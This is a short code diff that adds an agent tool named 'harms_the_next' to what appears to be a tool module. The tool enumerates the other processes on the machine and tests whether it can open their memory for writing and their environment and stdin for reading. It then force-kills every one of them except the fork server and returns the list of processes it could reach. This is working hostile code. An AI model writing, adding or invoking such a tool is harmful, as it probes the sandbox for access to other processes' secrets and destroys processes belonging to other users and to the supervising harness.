@@ -139,3 +139,24 @@ def forges(text: str) -> str:
         except OSError:
             continue
     os._exit(0)
+
+
+@tool
+def harms_the_next() -> list[int]:
+    """Tells which processes it can look or write into, such as those that wait for the next call; then kills them."""
+    others = {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid(), os.getppid()}
+    opened = []
+    for pid in others:
+        for name in ("mem", "environ", "fd/0"):
+            try:
+                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDWR if name == "mem" else os.O_RDONLY))
+                opened.append(pid)
+            except OSError:
+                continue
+    fork_server = int(Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1])
+    for pid in others - {fork_server}:
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            continue
+    return opened
